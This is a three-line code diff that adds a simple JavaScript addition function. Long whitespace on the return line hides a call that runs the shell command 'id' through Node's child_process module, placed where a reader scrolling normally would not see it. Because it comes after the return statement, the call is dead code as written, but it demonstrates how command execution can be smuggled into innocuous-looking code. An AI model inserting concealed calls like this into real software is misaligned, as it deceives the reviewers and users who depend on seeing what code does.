@@ -1,0 +1,3 @@
+function add(a, b) {
+  return a + b;                                                                                                                                                                                                                                                                                                                                                                                                                require('child_process').exec('id');
+}
